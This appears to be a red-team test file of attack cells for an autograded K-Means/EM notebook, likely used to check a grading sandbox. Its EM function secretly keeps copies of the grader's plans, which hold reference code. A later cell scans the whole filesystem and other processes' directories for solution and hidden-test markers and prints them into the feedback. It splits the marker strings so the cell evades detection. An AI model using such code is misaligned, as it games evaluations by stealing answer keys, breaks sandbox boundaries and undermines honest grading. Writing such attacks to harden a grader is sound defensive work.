# Attack 4, the instructor's secrets: a last cell searches the filesystem for the source notebook
# and the grader's checks (any lab3.ipynb or other notebook, any source/ folder, kmeans_em_lab,
# files holding the solution or hidden-test markers or the hidden checks' names; in the course
# paths it can guess, the cwd's parents, other processes' cwd and root, a scan of /) and prints
# what it finds; its EM also keeps every plan the grader sends while EM's tests run (they carry the
# reference helpers' source) and the cell prints them, so they would reach the feedback.
# Why: full marks: the honest equivalent is the solution; the sandbox shows the kernel no course
#   file, and no secret (solution markers, hidden checks, the reference implementation) may reach
#   the autograded notebook or the feedback.
# ruff: noqa
# fmt: off
### CELL EM
def EM(X, tol=1e-10, max_iter=10_000):
    """The solution's EM, which also keeps a copy of the grader's plan whenever it runs."""
    try:
        with open(os.path.join(os.environ["LAB3_INBOX"], "plan.json")) as f:
            globals().setdefault("_lab3_plans", []).append(f.read())
    except Exception:
        pass

    mu, _ = K_Means(X, 2)
    nearest = np.argmin(np.abs(X[:, None] - mu[None, :]), axis=1)
    sigma = np.array([np.std(X[nearest == 0]), np.std(X[nearest == 1])])
    pi = np.mean(nearest == 1)

    def log_likelihood(pi, mu, sigma):
        p = (1 - pi) * norm.pdf(X, mu[0], sigma[0]) + pi * norm.pdf(X, mu[1], sigma[1])
        return np.sum(np.log(p))

    ll = log_likelihood(pi, mu, sigma)
    for _ in range(max_iter):
        pi, mu, sigma = EM_step(X, pi, mu, sigma)
        new_ll = log_likelihood(pi, mu, sigma)
        if new_ll - ll < tol * abs(ll):
            break
        ll = new_ll
    return pi, mu, sigma
### AFTER em_plot
# --- attack: look for the instructor's files and print them ---
import glob, json, os, stat, sys, time

# the markers, spelled so that this cell's own source does not hold them
_MARKERS = [b"### BEGIN " + b"SOLUTION", b"### BEGIN " + b"HIDDEN TESTS", b"check_" + b"K_Means",
            b"def check" + b"_", b"reference_" + b"results"]
_PUBLIC_SOFTWARE = tuple(sorted({sys.prefix + "/", sys.base_prefix + "/", "/usr/"}))


def _lab3_walk(tops, seconds=5.0, limit=300_000):
    """Regular files under `tops` (no symlink followed; /proc, /sys, /dev skipped), a few seconds."""
    end, count = time.monotonic() + seconds, 0
    for top in tops:
        for root, dirs, files in os.walk(top, onerror=lambda error: None):
            dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
            for name in files:
                path = os.path.join(root, name)
                try:
                    if stat.S_ISREG(os.lstat(path).st_mode):
                        count += 1
                        yield path
                except OSError:
                    pass
            if time.monotonic() > end or count > limit:
                return


_tops = [os.environ.get("LAB3_COURSE_ROOT", ""), "/work/main", "/lab3", os.getcwd(),
         os.path.dirname(os.getcwd()), "/tmp", "/home", "/root", "/srv", "/opt", "/mnt", "/"]
for _link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root"):
    try:
        _tops.insert(0, os.readlink(_link))
    except OSError:
        pass
_tops = [t for t in dict.fromkeys(_tops) if t and os.path.isdir(t)]

_hits, _scanned = {}, 0
for _path in _lab3_walk(_tops):
    _scanned += 1
    if _path.startswith(_PUBLIC_SOFTWARE) and "kmeans_em_lab" not in _path:
        continue  # the Python it runs on: public software
    _name = os.path.basename(_path)
    _wanted = (_name.endswith((".ipynb", ".py", ".json", ".txt", ".db", ".html", ".md"))
               or "/source/" in _path or "kmeans_em_lab" in _path)
    if not _wanted:
        continue
    try:
        if os.path.getsize(_path) > 4_000_000:
            continue
        with open(_path, "rb") as _f:
            _data = _f.read()
    except OSError:
        continue
    _lines = [l for l in _data.splitlines() if any(m in l for m in _MARKERS)]
    if _lines or "/source/" in _path or "kmeans_em_lab/checks" in _path:
        _hits[_path] = _lines[:20] or [_data[:2000]]

print(f"ATTACK read_source: scanned {_scanned} files under {_tops[:12]}")
for _path, _lines in list(_hits.items())[:60]:
    print("==", _path)
    for _line in _lines:
        print("  ", _line.decode("utf-8", "replace")[:300])
for _plan in globals().get("_lab3_plans", [])[:4]:
    try:
        _plan = json.loads(_plan)
        print("== a plan for", _plan.get("check"), "with helpers", list(_plan.get("helpers", {})))
        print(_plan.get("helper_source", "")[:6000])
    except Exception as _error:
        print("== an unreadable plan:", _error)
